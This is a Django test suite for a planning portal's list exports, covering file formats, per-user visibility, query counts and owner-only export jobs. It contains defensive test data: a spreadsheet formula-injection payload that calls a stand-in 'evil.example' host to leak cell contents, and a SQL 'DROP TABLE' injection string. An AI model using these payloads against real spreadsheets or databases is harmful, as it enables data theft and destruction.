"""Exports of the portal's lists (exports app): every format parses, the rows are what the page
shows to that user, CSV cells are defused, bad filters say what is wrong, query counts do not
grow with the rows, and a large list becomes a job whose file only its owner can download."""

import datetime
import json
from decimal import Decimal

import pytest
from django.contrib.gis.geos import MultiPolygon, Point, Polygon
from django.urls import reverse

from exports.models import ExportJob
from exports.registry import all_exports
from knowledge.models import Layer, LayerFeature, Theme
from networks.models import Meeting, Network, Organisation
from planportal import roles
from tests.factories import OrganisationFactory, UserFactory
from tests.knowledge.factories import DocumentFactory, LayerFactory, NewsItemFactory, RequestFactory, ThemeFactory
from tests.networks.factories import MeetingFactory, NetworkFactory
from tests.referrals.factories import ReferralFactory, UnitFactory
from tests.referrals.factories_workflow import ConsultationFactory
from tests.rus.factories import (
    IndicatorFactory,
    IndicatorValueFactory,
    StrategyFactory,
    StructureFeatureFactory,
    StructureImageFactory,
)

from .support import body, read_csv, read_geojson, read_geopackage

pytestmark = pytest.mark.django_db


def url(name, **params):
    from django.http import QueryDict

    query = QueryDict(mutable=True)
    query.update(params)
    return f"{reverse('exports:list', kwargs={'name': name})}?{query.urlencode()}"


def square(east=514000, north=6571000, size=500):
    return MultiPolygon(
        Polygon(
            ((east, north), (east + size, north), (east + size, north + size), (east, north + size), (east, north))
        ),
        srid=3006,
    )


# --- formats --------------------------------------------------------------------------------------


def test_organisations_in_every_format_parse_and_match_the_page(client):
    for number in range(3):
        OrganisationFactory(municipality=True, boundary=square(east=500000 + 1000 * number))
    OrganisationFactory(kind=Organisation.Kind.OTHER, name="Trafikverket", slug="trafikverket")
    page = client.get(reverse("networks:organisation_list"), {"kind": "municipality"})
    shown = sorted(o.name for o in page.context["organisations"])
    assert len(shown) == 3

    rows = read_csv(client.get(url("networks.organisations", kind="municipality", format="csv")))
    assert rows[0] == ["Namn", "Kortnamn", "Typ", "Kod", "Webbplats", "Länk"]
    assert sorted(row[0] for row in rows[1:]) == shown
    assert {row[2] for row in rows[1:]} == {"Kommun"}
    assert all(row[5].startswith("http://testserver/kommuner/") for row in rows[1:])

    response = client.get(url("networks.organisations", kind="municipality", format="geojson"))
    assert response["Content-Type"] == "application/geo+json"
    data = read_geojson(response)
    assert sorted(f["properties"]["name"] for f in data["features"]) == shown
    assert {f["geometry"]["type"] for f in data["features"]} == {"MultiPolygon"}

    response = client.get(url("networks.organisations", kind="municipality", format="gpkg"))
    assert response["Content-Type"] == "application/geopackage+sqlite3"
    assert response["Content-Disposition"].startswith('attachment; filename="organisationer-')
    package = read_geopackage(body(response))
    assert package["count"] == package["ogrinfo_count"] == 3
    assert package["srid"] == 3006
    assert sorted(package["names"]) == shown
    assert "url" in package["fields"] and "kind" in package["fields"]


def test_a_list_without_geometry_has_no_geopackage_and_null_geometries(client):
    NetworkFactory(name="Forum för fysisk planering")
    data = read_geojson(client.get(url("networks.networks", format="geojson")))
    assert [f["geometry"] for f in data["features"]] == [None]
    assert data["features"][0]["properties"]["name"] == "Forum för fysisk planering"
    response = client.get(url("networks.networks", format="gpkg"))
    assert response.status_code == 400
    assert "format: Välj ett av formaten csv, geojson." in response.content.decode()


def test_indicator_values_keep_numbers_as_numbers(client):
    area = OrganisationFactory(municipality=True, boundary=square())
    IndicatorValueFactory(area=area, value=Decimal("-3.5"), indicator__name="Befolkningsförändring")
    rows = read_csv(client.get(url("rus.values", format="csv")))
    assert rows[1][0] == "Befolkningsförändring" and rows[1][5] == "-3.500"  # a number, not a defused text
    feature = read_geojson(client.get(url("rus.values", format="geojson")))["features"][0]
    assert feature["properties"]["value"] == -3.5 and feature["properties"]["is_example"] is False
    assert read_geopackage(body(client.get(url("rus.values", format="gpkg"))))["count"] == 1


def test_exports_are_in_english_when_chosen(client):
    NetworkFactory(kind=Network.Kind.COUNCIL, status=Network.Status.ACTIVE)
    client.cookies["django_language"] = "en"
    rows = read_csv(client.get(url("networks.networks", format="csv")))
    assert rows[0][:2] == ["Name", "Short name"] and rows[0][3] == "Status"
    assert rows[1][2:4] == ["Council", "Active"]


# --- visibility: the rows are what the page shows that user ------------------------------------------


def _titles(client, **params):
    return sorted(row[0] for row in read_csv(client.get(url("knowledge.documents", format="csv", **params)))[1:])


def test_documents_export_what_the_search_page_shows_each_user(client, planner, editor):
    DocumentFactory(title="Offentlig trafikanalys")
    DocumentFactory(title="Intern trafikanalys", internal=True)
    DocumentFactory(title="Tillbakadragen trafikanalys", withdrawn=True)
    expected = {
        None: ["Offentlig trafikanalys"],
        planner: ["Intern trafikanalys", "Offentlig trafikanalys"],
        editor: ["Intern trafikanalys", "Offentlig trafikanalys", "Tillbakadragen trafikanalys"],
    }
    for user, titles in expected.items():
        client.logout()
        if user:
            client.force_login(user)
        page = client.get(reverse("knowledge:search"), {"q": "trafikanalys"})
        assert sorted(d.title for d in page.context["documents"]) == titles
        assert _titles(client, q="trafikanalys") == titles
        features = read_geojson(client.get(url("knowledge.documents", q="trafikanalys", format="geojson")))
        assert sorted(f["properties"]["title"] for f in features["features"]) == titles


def test_internal_networks_and_their_meetings_stay_inside(client, planner, municipality):
    from tests.networks.factories import MembershipFactory

    public = NetworkFactory(name="Öppet forum")
    internal = NetworkFactory(name="Internt forum", internal=True)
    MembershipFactory(network=internal, organisation=municipality)
    MeetingFactory(network=public, title="Öppet möte")
    MeetingFactory(network=internal, title="Internt möte")
    for user, networks, meetings in (
        (None, ["Öppet forum"], ["Öppet möte"]),
        (planner, ["Internt forum", "Öppet forum"], ["Internt möte", "Öppet möte"]),
    ):
        client.logout()
        if user:
            client.force_login(user)
        page = client.get(reverse("networks:network_list"))
        assert sorted(n.name for n in page.context["networks"]) == networks
        assert sorted(r[0] for r in read_csv(client.get(url("networks.networks", format="csv")))[1:]) == networks
        assert sorted(r[0] for r in read_csv(client.get(url("networks.meetings", format="csv")))[1:]) == meetings
    client.logout()
    # Asking for the internal network's meetings by name gives the public nothing.
    assert len(read_csv(client.get(url("networks.meetings", network=internal.slug, format="csv")))) == 1


def test_draft_indicators_are_not_exported_to_the_public(client, coordinator):
    IndicatorFactory(name="Publicerad indikator")
    draft = IndicatorFactory(name="Utkast till indikator", goal__strategy=StrategyFactory(draft=True))
    IndicatorValueFactory(indicator=draft, area=OrganisationFactory(municipality=True))
    names = lambda: sorted(r[0] for r in read_csv(client.get(url("rus.indicators", format="csv")))[1:])  # noqa: E731
    assert names() == ["Publicerad indikator"]
    assert len(read_csv(client.get(url("rus.values", format="csv")))) == 1
    client.force_login(coordinator)
    assert names() == ["Publicerad indikator", "Utkast till indikator"]
    assert len(read_csv(client.get(url("rus.values", format="csv")))) == 2


def test_referral_exports_public_register_and_officers_work_list(client, planner, case_officer):
    case = ReferralFactory(plan_name="Detaljplan Ekängen", assignee=case_officer)
    rows = read_csv(client.get(url("referrals.register", format="csv")))
    assert "Handläggare" not in rows[0] and rows[1][4] == "Detaljplan Ekängen"
    assert rows[1][-1] == "http://testserver" + case.get_public_url()
    worklist = url("referrals.worklist", format="csv")
    assert client.get(worklist).status_code == 302  # signed out: to the sign-in page
    client.force_login(planner)
    response = client.get(worklist)
    assert response.status_code == 403 and "Bara handläggare" in response.content.decode()
    client.force_login(case_officer)
    rows = read_csv(client.get(worklist))
    assert rows[0][-2:] == ["Handläggare", "Dagar kvar"]
    assert rows[1][-2] == case_officer.get_full_name().strip()
    package = read_geopackage(body(client.get(url("referrals.worklist", format="gpkg"))))
    assert package["count"] == 1 and package["srid"] == 3006


def test_requests_are_for_the_signed_in(client, planner):
    RequestFactory(topic="Underlag om solparker")
    response = client.get(url("knowledge.requests", format="csv"))
    assert response.status_code == 302 and "/konto/logga-in/" in response["Location"]
    client.force_login(planner)
    rows = read_csv(client.get(url("knowledge.requests", format="csv")))
    assert [row[0] for row in rows[1:]] == ["Underlag om solparker"]


# --- formula injection ----------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Klicka")', "+46 19 123", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


def test_csv_cells_from_users_are_defused(client):
    for number, formula in enumerate(FORMULAS):
        OrganisationFactory(name=formula, short_name=formula, slug=f"formel-{number}")
    rows = read_csv(client.get(url("networks.organisations", format="csv")))
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + formula for formula in FORMULAS}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    # GeoJSON carries the text as it is (it is data, not a spreadsheet).
    data = read_geojson(client.get(url("networks.organisations", format="geojson")))
    assert {f["properties"]["name"] for f in data["features"]} == set(FORMULAS)


# --- bad input ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, params, text",
    [
        ("networks.organisations", {"format": "xlsx"}, "format: Välj ett av formaten csv, geojson, gpkg."),
        ("networks.organisations", {"kind": "kommunen"}, "kind: Okänt värde ”kommunen”"),
        ("networks.networks", {"status": "x"}, "status: Okänt värde ”x”"),
        ("networks.meetings", {"from": "2026-13-45"}, "from: Ange datumet som ÅÅÅÅ-MM-DD"),
        ("knowledge.documents", {"year": "nästa"}, "year: Ange året med fyra siffror"),
        ("knowledge.documents", {"bbox": "1,2"}, "bbox"),
        ("rus.values", {"year": "x"}, "year: Ange ett heltal"),
        ("rus.indicators", {"goal": "x"}, "goal: Ange ett heltal"),
        ("referrals.register", {"year": "nästa"}, "year: Året (year) ska vara ett årtal"),
        ("knowledge.layer_features", {}, "layer: Ange vilket kartlager (layer) som ska laddas ned."),
    ],
)
def test_bad_filters_are_a_400_page_saying_what_is_wrong(client, name, params, text):
    response = client.get(url(name, **params))
    assert response.status_code == 400
    html = response.content.decode()
    assert "Listan kunde inte laddas ned" in html and text in html


def test_an_unknown_list_is_a_404(client):
    assert client.get(url("networks.nothing", format="csv")).status_code == 404


GARBAGE = ["x", "-99999999999999999999", "'; DROP TABLE x; --" + "ö" * 300]


def test_no_filter_value_is_ever_a_500(client, case_officer):
    client.force_login(case_officer)
    for spec in all_exports():
        for key in (*spec.filter_keys, "format"):
            for value in GARBAGE:
                response = client.get(url(spec.name, **{key: value}))
                assert response.status_code in (200, 400), (spec.name, key, value, response.status_code)
                body(response)  # a streamed body must not fail half-way either


# --- query counts: constant in the number of rows ---------------------------------------------------


def _make_rows(name, n, *, user):
    network = (Network.objects.first() or NetworkFactory(slug="forum")) if name == "networks.meetings" else None
    for _ in range(n):
        if name in ("networks.organisations", "networks.municipalities"):
            OrganisationFactory(municipality=True, boundary=square())
        elif name == "networks.networks":
            NetworkFactory()
        elif name == "networks.meetings":
            MeetingFactory(network=network, host=OrganisationFactory())
        elif name == "knowledge.documents":
            DocumentFactory(themes=[], municipalities=[OrganisationFactory(municipality=True)])
        elif name == "knowledge.requests":
            RequestFactory()
        elif name == "knowledge.news":
            NewsItemFactory().themes.add(Theme.objects.first() or ThemeFactory())
        elif name == "knowledge.review":
            DocumentFactory(themes=[], review_by=datetime.date.today(), owner=user)
        elif name == "knowledge.layers":
            LayerFactory()
        elif name == "referrals.consultations":
            unit = UnitFactory(slug="export-enhet")
            unit.members.add(user)
            ConsultationFactory(unit=unit, referral=ReferralFactory(in_progress=True, assignee=user))
        elif name == "rus.indicators":
            IndicatorFactory()
        elif name == "rus.values":
            IndicatorValueFactory(area=OrganisationFactory(municipality=True))
        elif name in ("referrals.register", "referrals.worklist"):
            ReferralFactory(assignee=user)
        elif name == "knowledge.layer_features":
            layer = Layer.objects.first() or LayerFactory()
            LayerFeature.objects.create(layer=layer, number=_, geometry=Point(514000, 6571000, srid=3006))
        elif name == "rus.structure_features":
            StructureFeatureFactory(image=StructureImageFactory(key="stråk"))


def _fixed_filters(name):
    """Lists of one thing take it as a filter (the page passes it)."""
    if name == "knowledge.layer_features":
        return {"layer": str(Layer.objects.get().pk)}
    return {}


@pytest.mark.parametrize("name", [spec.name for spec in all_exports()])
def test_export_query_count_is_constant_in_the_rows(client, count_queries, case_officer, name):
    from exports.registry import get_export

    client.force_login(case_officer)

    def run(export_format):
        return lambda: body(client.get(url(name, format=export_format, **_fixed_filters(name))))

    _make_rows(name, 1, user=case_officer)
    run("csv")()  # the session and the like, once
    one = {f: count_queries(run(f))[0] for f in ("csv", "geojson")}
    _make_rows(name, 24, user=case_officer)
    many, data = {}, {}
    for export_format in ("csv", "geojson"):
        many[export_format], data[export_format] = count_queries(run(export_format))
    assert one == many, (name, one, many)
    assert max(one.values()) <= 8
    expected = get_export(name).selector(case_officer, _fixed_filters(name)).count()
    assert expected >= 25
    assert len(read_csv_bytes(data["csv"])) == expected + 1
    assert data["geojson"].count(b'"type":"Feature"') == expected


def read_csv_bytes(data):
    import csv
    import io

    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


# --- the pages link their exports with their filters --------------------------------------------


def test_list_pages_link_their_exports_with_the_current_filters(client, planner, case_officer):
    network = NetworkFactory(slug="forum")
    indicator = IndicatorFactory(slug="befolkning")
    DocumentFactory(title="Trafikstrategi för länet")
    pages = [
        (reverse("networks:organisation_list"), {"kind": "municipality", "page": "1"}, "networks.organisations", True),
        (reverse("networks:municipality_list"), {}, "networks.municipalities", True),
        (reverse("networks:network_list"), {"kind": "council", "q": "plan"}, "networks.networks", False),
        (network.get_absolute_url(), {}, "networks.meetings", True),
        (reverse("knowledge:search"), {"q": "trafik", "kind": "report"}, "knowledge.documents", True),
        (reverse("rus:indicator_list"), {"source": "kolada"}, "rus.indicators", False),
        (reverse("rus:indicator_list"), {"source": "kolada"}, "rus.values", True),
        (indicator.get_absolute_url(), {}, "rus.values", True),
        (reverse("referrals:register"), {"status": "open"}, "referrals.register", True),
        (reverse("referrals:map"), {"status": "open"}, "referrals.register", True),
        (reverse("knowledge:news_list"), {"scope": "national"}, "knowledge.news", False),
        (reverse("knowledge:layer_list"), {}, "knowledge.layers", False),
    ]
    for path, params, name, geometry in pages:
        html = client.get(path, params).content.decode()
        link = url(name, **{k: v for k, v in params.items() if k != "page"}).replace("&", "&amp;")
        for export_format in ("csv", "geojson", *(["gpkg"] if geometry else [])):
            expected = link + ("&amp;" if params else "") + f"format={export_format}"
            if path == network.get_absolute_url():
                expected = url(name, network="forum", format=export_format).replace("&", "&amp;")
            if path == indicator.get_absolute_url():
                expected = url(name, indicator="befolkning", format=export_format).replace("&", "&amp;")
            assert expected in html, (path, expected)
        if not geometry:
            clean = {k: v for k, v in params.items() if k != "page"}
            assert url(name, **clean, format="gpkg").replace("&", "&amp;") not in html
    client.force_login(planner)
    html = client.get(reverse("knowledge:request_list"), {"status": "new"}).content.decode()
    assert url("knowledge.requests", status="new", format="csv").replace("&", "&amp;") in html
    html = client.get(reverse("knowledge:review_list")).content.decode()
    assert url("knowledge.review", format="gpkg").replace("&", "&amp;") in html
    unit = UnitFactory(slug="lankar")
    unit.members.add(planner)
    ConsultationFactory(unit=unit)
    html = client.get(reverse("referrals:my_consultations")).content.decode()
    assert url("referrals.consultations", format="csv").replace("&", "&amp;") in html
    client.force_login(case_officer)
    html = client.get(reverse("referrals:index"), {"status": "all"}).content.decode()
    assert url("referrals.worklist", status="all", format="gpkg").replace("&", "&amp;") in html


# --- large exports: a job, its progress and its file for its owner only -------------------------------


def test_a_large_list_is_confirmed_then_built_as_a_job_for_its_owner(
    client, settings, planner, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_MAX_ROWS = 2
    for number in range(3):
        OrganisationFactory(municipality=True, boundary=square(east=500000 + 1000 * number))
    client.force_login(planner)
    address = url("networks.organisations", kind="municipality", format="gpkg")
    page = client.get(address)
    assert page.status_code == 200 and "Content-Disposition" not in page
    html = page.content.decode()
    # Three and the planner's own municipality.
    assert "Listan har 4 rader" in html and 'name="kind" value="municipality"' in html

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("exports:list", args=["networks.organisations"]), {"format": "gpkg", "kind": "municipality"}
        )
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == job.get_absolute_url()
    assert job.user == planner and job.filters == {"kind": "municipality"} and job.format == "gpkg"
    assert job.status == "done" and job.progress == 100 and job.processed_rows == 4

    status = client.get(reverse("exports:job_status", args=[job.pk])).json()
    assert status["finished"] and status["percent"] == 100 and status["download_url"]
    page = client.get(job.get_absolute_url()).content.decode()
    assert "Klar – 100 %" in page and status["download_url"] in page
    assert client.get(reverse("exports:job_list")).content.decode().count(job.filename) >= 1
    download = client.get(status["download_url"])
    assert download.status_code == 200 and 'attachment; filename="organisationer-' in download["Content-Disposition"]
    assert read_geopackage(body(download))["count"] == 4

    other = UserFactory(username="other-planner", roles=[roles.PLANNER])
    client.force_login(other)
    for path in (job.get_absolute_url(), reverse("exports:job_status", args=[job.pk]), status["download_url"]):
        assert client.get(path).status_code == 404
    client.logout()
    assert client.get(status["download_url"]).status_code == 404


def test_a_signed_out_visitors_job_belongs_to_their_session(client, settings, django_capture_on_commit_callbacks):
    settings.EXPORT_SYNC_MAX_ROWS = 1
    ReferralFactory()
    ReferralFactory()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("exports:list", args=["referrals.register"]), {"format": "csv"})
    job = ExportJob.objects.get()
    assert job.user is None and job.session_key
    download = client.get(reverse("exports:job_file", args=[job.pk, job.filename]))
    assert len(read_csv(download)) == 3
    from django.test import Client

    assert Client().get(reverse("exports:job_file", args=[job.pk, job.filename])).status_code == 404


def test_a_job_follows_its_owners_visibility_and_language(client, settings, django_capture_on_commit_callbacks):
    settings.EXPORT_SYNC_MAX_ROWS = 0
    DocumentFactory(title="Offentligt dokument")
    DocumentFactory(title="Internt dokument", internal=True)
    client.cookies["django_language"] = "en"
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("exports:list", args=["knowledge.documents"]), {"format": "csv"})
    job = ExportJob.objects.get()
    rows = read_csv(client.get(reverse("exports:job_file", args=[job.pk, job.filename])))
    assert rows[0][0] == "Title" and [row[0] for row in rows[1:]] == ["Offentligt dokument"]


def test_old_jobs_are_deleted_with_their_files(client, settings, planner, django_capture_on_commit_callbacks):
    from exports.services import export_jobs_delete_old

    settings.EXPORT_SYNC_MAX_ROWS = 0
    OrganisationFactory()
    client.force_login(planner)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("exports:list", args=["networks.organisations"]), {"format": "csv"})
    job = ExportJob.objects.get()
    path = job.file.path
    assert export_jobs_delete_old(days=7) == 0
    ExportJob.objects.update(created_at=job.created_at - datetime.timedelta(days=8))
    assert export_jobs_delete_old(days=7) == 1
    import os

    assert not ExportJob.objects.exists() and not os.path.exists(path)


def test_meeting_place_is_the_meetings_geometry(client):
    network = NetworkFactory()
    from django.contrib.gis.geos import Point

    MeetingFactory(network=network, title="Möte i Örebro", point=Point(514000, 6571000, srid=3006))
    MeetingFactory(network=network, title="Digitalt möte", status=Meeting.Status.PLANNED)
    data = read_geojson(client.get(url("networks.meetings", network=network.slug, format="geojson")))
    geometry = {f["properties"]["title"]: f["geometry"] for f in data["features"]}
    assert geometry["Digitalt möte"] is None and geometry["Möte i Örebro"]["type"] == "Point"
    package = read_geopackage(body(client.get(url("networks.meetings", network=network.slug, format="gpkg"))))
    assert package["count"] == 2


def test_a_failed_job_says_so_and_offers_no_file(client, planner):
    from exports.services import export_job_run

    job = ExportJob.objects.create(user=planner, list_name="gone.list", format="csv", filename="x.csv")
    export_job_run(job.pk)
    job.refresh_from_db()
    assert job.status == "failed" and "gone.list" in job.error and not job.file
    client.force_login(planner)
    html = client.get(job.get_absolute_url()).content.decode()
    assert "Exporten misslyckades" in html and "data-export-finished" in html
    assert client.get(reverse("exports:job_file", args=[job.pk, job.filename])).status_code == 404


def test_a_map_layers_features_with_their_properties(client, planner):
    layer = LayerFactory(name="Vattenskyddsområden")
    hidden = LayerFactory(name="Internt lager", is_public=False)
    for number, target in enumerate((layer, hidden)):
        LayerFeature.objects.create(
            layer=target,
            number=number,
            geometry=Point(514000, 6571000, srid=3006),
            properties={"namn": "=Skydd", "klass": 2},
        )
    rows = read_csv(client.get(url("knowledge.layer_features", layer=layer.pk, format="csv")))
    assert rows[0] == ["Kartlager", "Nummer", "Egenskaper"]
    assert rows[1][0] == "Vattenskyddsområden" and json.loads(rows[1][2]) == {"namn": "=Skydd", "klass": 2}
    feature = read_geojson(client.get(url("knowledge.layer_features", layer=layer.pk, format="geojson")))["features"][0]
    assert feature["properties"]["properties"] == {"namn": "=Skydd", "klass": 2}
    assert feature["geometry"]["type"] == "Point"
    package = body(client.get(url("knowledge.layer_features", layer=layer.pk, format="gpkg")))
    assert read_geopackage(package)["count"] == 1
    # A layer the public may not see exports nothing, and says nothing about it.
    assert len(read_csv(client.get(url("knowledge.layer_features", layer=hidden.pk, format="csv")))) == 1
    client.force_login(planner)
    assert len(read_csv(client.get(url("knowledge.layer_features", layer=hidden.pk, format="csv")))) == 2
    html = client.get(reverse("knowledge:layer_detail", args=[layer.pk])).content.decode()
    assert url("knowledge.layer_features", layer=layer.pk, format="gpkg").replace("&", "&amp;") in html


def test_a_structure_images_features(client):
    image = StructureImageFactory(key="straket", name="Stråk och noder")
    StructureFeatureFactory(image=image, name="Mälarbanan")
    StructureFeatureFactory(image=image, name="Örebro", node=True)
    StructureFeatureFactory(name="Annat stråk")
    rows = read_csv(client.get(url("rus.structure_features", image="straket", format="csv")))
    assert sorted(row[2] for row in rows[1:]) == ["Mälarbanan", "Örebro"]
    package = read_geopackage(body(client.get(url("rus.structure_features", image="straket", format="gpkg"))))
    assert package["count"] == package["ogrinfo_count"] == 2 and package["srid"] == 3006
    html = client.get(reverse("rus:structure_image_detail", args=["straket"])).content.decode()
    assert url("rus.structure_features", image="straket", format="geojson").replace("&", "&amp;") in html


def test_a_unit_members_consultations_are_theirs_alone(client, planner):
    from tests.referrals.factories_workflow import unit_with_member

    unit, member = unit_with_member(slug="kollektivtrafik-export")
    ConsultationFactory(unit=unit, question="Hur går bussarna?")
    ConsultationFactory(question="En annan enhets fråga")
    client.force_login(member)
    rows = read_csv_bytes(body(client.get(url("referrals.consultations", format="csv"))))
    assert len(rows) == 2 and "Hur går bussarna?" in rows[1]
    client.force_login(planner)  # in no unit
    assert len(read_csv_bytes(body(client.get(url("referrals.consultations", format="csv"))))) == 1
    client.logout()
    assert client.get(url("referrals.consultations", format="csv")).status_code in (302, 403)
